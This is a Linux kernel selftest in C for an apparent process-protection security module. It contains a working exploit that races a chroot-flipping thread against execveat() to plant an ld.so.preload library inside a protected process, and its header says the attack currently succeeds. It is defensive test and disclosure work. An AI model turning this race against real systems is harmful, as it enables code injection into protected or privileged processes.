// SPDX-License-Identifier: GPL-2.0
/*
 * protect_root_race_test - an attacker's race against protect.c's
 * sees_init_root(): the root directory is a thread's to change.
 *
 * A protected application starts only where the process's root is init's
 * (protect.c, sees_init_root()), because the loader opens its files
 * (/etc/ld.so.preload, the libraries) by name, from the process's root,
 * after execve().  But the root lives in the fs_struct, which the threads
 * of a process share (CLONE_FS is part of every pthread_create()), and
 * check_unsafe_exec() does not count a thread of the same process as
 * "sharing" (LSM_UNSAFE_SHARE is for other processes).  In a user
 * namespace of its own a program of the user may chroot(); so one thread
 * execs the protected file while another flips the shared root between
 * init's and a folder of the user's (an /etc/ld.so.preload naming the
 * user's library, copies of the loader and the C library).  When the
 * check runs while the root is init's, and the other thread's last
 * chroot() before de_thread() kills it makes the root the user's, the
 * protected process starts with secure=1 dumpable=0 and the user's code
 * in it.
 *
 * ATTACK SUCCEEDS on the kernel of this commit (issue 27's fix): the test
 * `thread_chroot_race` asserts the defended outcome (no protected start
 * with the user's library in it) and FAILS, printing how many tries won.
 * The control, `thread_chroot_race_control`, runs the same steps against
 * protectee-plain, which is not protected: the library gets in.
 */
#define _GNU_SOURCE
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include "pfsel_test_util.h"

#include "kselftest_harness.h"

#define TESTS_DIR PFSEL_TESTS_DIR
#define PROTECTED TESTS_DIR "/protectee"
#define PLAIN TESTS_DIR "/protectee-plain"
#define PRELOAD TESTS_DIR "/preload.so"

/* The user's folder, made the root: its loader, libc, ld.so.preload. */
#define WORK "/tmp/pfsel-root-race"
#define EVIL WORK "/root"

#define TRIES 300

/* ---- Files ------------------------------------------------------------- */

static int copy_file(const char *from, const char *to, mode_t mode)
{
	char buf[65536];
	int in = open(from, O_RDONLY | O_CLOEXEC), out;
	ssize_t n;

	if (in < 0)
		return errno;
	out = open(to, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
	if (out < 0) {
		close(in);
		return errno;
	}
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, (size_t)n) != n)
			break;
	close(in);
	return close(out) || n ? EIO : 0;
}

/*
 * The user's root: what the test makes here as root, a program of the
 * user makes in its own folder (/tmp, its home) just the same.
 */
static int prepare_root(void)
{
	static const char *const files[] = {
		"/lib64/ld-linux-x86-64.so.2",
		"/lib/x86_64-linux-gnu/libc.so.6",
	};
	char to[256];
	size_t i;
	int fd, err;

	if (system("rm -rf " WORK " && mkdir -p " EVIL "/lib64 " EVIL
		   "/lib/x86_64-linux-gnu " EVIL "/etc && chmod -R 755 " WORK))
		return EIO;
	for (i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		snprintf(to, sizeof(to), "%s%s", EVIL, files[i]);
		err = copy_file(files[i], to, 0755);
		if (err)
			return err;
	}
	err = copy_file(PRELOAD, EVIL "/preload.so", 0755);
	if (err)
		return err;
	fd = open(EVIL "/etc/ld.so.preload", O_WRONLY | O_CREAT | O_TRUNC,
		  0644);
	if (fd < 0)
		return errno;
	err = write(fd, "/preload.so\n", 12) == 12 ? 0 : EIO;
	close(fd);
	return err;
}

/* ---- The attacker ------------------------------------------------------ */

#define SETUP_FAILED 124

/* A user namespace of one's own, root there (`unshare -Ur`): no mounts. */
static int enter_userns(void)
{
	if (prctl(PR_SET_DUMPABLE, 1) || unshare(CLONE_NEWUSER))
		return errno;
	errno = pfsel_write_file("/proc/self/setgroups", "deny");
	if (!errno)
		errno = pfsel_write_file("/proc/self/uid_map", "0 1001 1");
	if (!errno)
		errno = pfsel_write_file("/proc/self/gid_map", "0 1001 1");
	return errno;
}

static int real_root = -1, evil_root = -1;

/* The other thread: flips the process's (shared) root, as fast as it can. */
static void *flipper(void *unused)
{
	for (;;) {
		if (fchdir(evil_root) || chroot("."))
			_exit(SETUP_FAILED);
		if (fchdir(real_root) || chroot("."))
			_exit(SETUP_FAILED);
	}
	return NULL;
}

enum outcome { WON, CLEAN, REFUSED, OTHER };

/*
 * One try, in a child: start the flipper, then execveat() the program
 * (opened before, so that its lookup does not depend on the root).
 */
static enum outcome one_try(int exe)
{
	char *argv[] = { "protectee", NULL }, *envp[] = { NULL };
	char line[128];
	int out[2], err[2], code = 0, status;
	ssize_t n;
	pid_t pid;

	if (pipe2(out, O_CLOEXEC) || pipe2(err, O_CLOEXEC))
		return OTHER;
	pid = fork();
	if (pid == 0) {
		pthread_t t;

		dup2(out[1], STDOUT_FILENO);
		if (pthread_create(&t, NULL, flipper, NULL))
			_exit(SETUP_FAILED);
		syscall(SYS_execveat, exe, "", argv, envp, AT_EMPTY_PATH);
		code = errno;
		if (write(err[1], &code, sizeof(code)) < 0)
			_exit(126);
		_exit(127);
	}
	close(out[1]);
	close(err[1]);
	n = read(err[0], &code, sizeof(code));
	close(err[0]);
	line[0] = '\0';
	if (n != sizeof(code)) {
		code = 0;
		n = read(out[0], line, sizeof(line) - 1);
		line[n > 0 ? n : 0] = '\0';
	}
	close(out[0]);
	waitpid(pid, &status, 0);
	if (code == EPERM)
		return REFUSED;
	if (code)
		return OTHER;
	if (strstr(line, "preloaded=1")) {
		fprintf(stderr, "protect_root_race_test: won: %s", line);
		return WON;
	}
	return strstr(line, "preloaded=0") ? CLEAN : OTHER;
}

/* As pfuser1: up to TRIES tries; the number of wins (at most 100). */
static int race(void *arg)
{
	int exe = open(arg, O_PATH | O_CLOEXEC), counts[4] = { 0 }, i;

	if (exe < 0)
		return SETUP_FAILED;
	real_root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	evil_root = open(EVIL, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (real_root < 0 || evil_root < 0 || enter_userns())
		return SETUP_FAILED;
	for (i = 0; i < TRIES && counts[WON] < 5; i++)
		counts[one_try(exe)]++;
	fprintf(stderr,
		"protect_root_race_test: %s: %d tries: %d won (the user's "
		"library in it), %d clean, %d refused, %d other\n",
		(char *)arg, i, counts[WON], counts[CLEAN], counts[REFUSED],
		counts[OTHER]);
	return counts[WON] > 100 ? 100 : counts[WON];
}

/* ---- The tests --------------------------------------------------------- */

FIXTURE(root_race)
{
	int unused;
};

FIXTURE_SETUP(root_race)
{
	if (geteuid() != 0)
		SKIP(return, "loading 1001's policy and the files need root");
	pfsel_reset();
	ASSERT_EQ(0, prepare_root());
	ASSERT_EQ(0, pfsel_load("userns_1001"));
}

FIXTURE_TEARDOWN(root_race)
{
	if (geteuid() != 0)
		return;
	pfsel_reset();
	system("rm -rf " WORK);
}

/*
 * The attack on the protected application.  The defended outcome: no
 * start of it with the user's library in it.  FAILS on this kernel (see
 * the top of the file): sees_init_root() reads a root that another thread
 * of the same process may still change before de_thread().
 */
TEST_F_TIMEOUT(root_race, thread_chroot_race, 600)
{
	EXPECT_EQ(0, pfsel_run_as(PFSEL_UID1, race, PROTECTED));
}

/* The control: the same steps against the program not protected win. */
TEST_F_TIMEOUT(root_race, thread_chroot_race_control, 600)
{
	int won = pfsel_run_as(PFSEL_UID1, race, PLAIN);

	EXPECT_LT(0, won);
	EXPECT_GE(100, won);
}

TEST_HARNESS_MAIN
